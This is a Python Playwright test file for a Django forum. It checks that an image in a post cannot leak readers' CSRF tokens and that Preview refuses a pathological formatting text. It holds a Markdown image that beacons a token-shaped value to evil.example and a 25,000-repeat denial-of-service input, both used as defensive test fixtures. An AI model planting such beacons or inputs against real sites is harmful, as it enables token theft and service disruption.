"""Hostile posts in a real browser: a post cannot make readers' browsers send their CSRF
token elsewhere (CSRF-04), and a pathological text is refused by Preview at once (DOS-01)."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Page, Route, expect

from pnyx.posting.services import reply_to_thread
from pnyx.testing.factories import make_forum, make_member, make_thread

from .helpers import sign_in

pytestmark = pytest.mark.django_db(transaction=True)


def test_csrf04_image_in_a_post_never_carries_the_readers_token(page: Page, base_url: str) -> None:
    author, reader = make_member(username="mallory"), make_member(username="reader")
    thread = make_thread(make_forum(), author=author, body="Look below.")
    reply_to_thread(
        author, thread, body="![x](https://evil.example/pixel.png?t=PNYXFRAGMENTCSRFTOKEN)"
    )
    asked: list[str] = []

    def record(route: Route) -> None:
        asked.append(route.request.url)
        route.abort()

    page.route("https://evil.example/**", record)
    sign_in(page, base_url, reader)
    page.goto(f"{base_url}{thread.get_absolute_url()}")
    token = page.locator("input[name=csrfmiddlewaretoken]").first.get_attribute("value")
    assert token
    expect(page.locator("article.post img")).to_have_count(1)
    page.wait_for_load_state("networkidle")
    assert asked == ["https://evil.example/pixel.png?t=PNYXFRAGMENTCSRFTOKEN"]
    assert token not in asked[0]


def test_dos01_preview_of_a_pathological_text_answers_at_once_with_the_reason(
    page: Page, base_url: str
) -> None:
    member = make_member(username="writer")
    thread = make_thread(make_forum(), author=member)
    sign_in(page, base_url, member)
    page.goto(f"{base_url}{thread.get_absolute_url()}")
    page.locator("textarea[name=body]").fill("![" * 25_000)
    page.get_by_role("button", name="Preview").click()
    expect(page.locator(".composer-preview")).to_contain_text(
        re.compile("This text has too much formatting to show")
    )
    # Typing also scheduled a draft save: let it finish, so that no request is still
    # writing to the database when the test's database is emptied.
    expect(page.locator(".draft-status")).to_contain_text(re.compile("aved"), timeout=20_000)
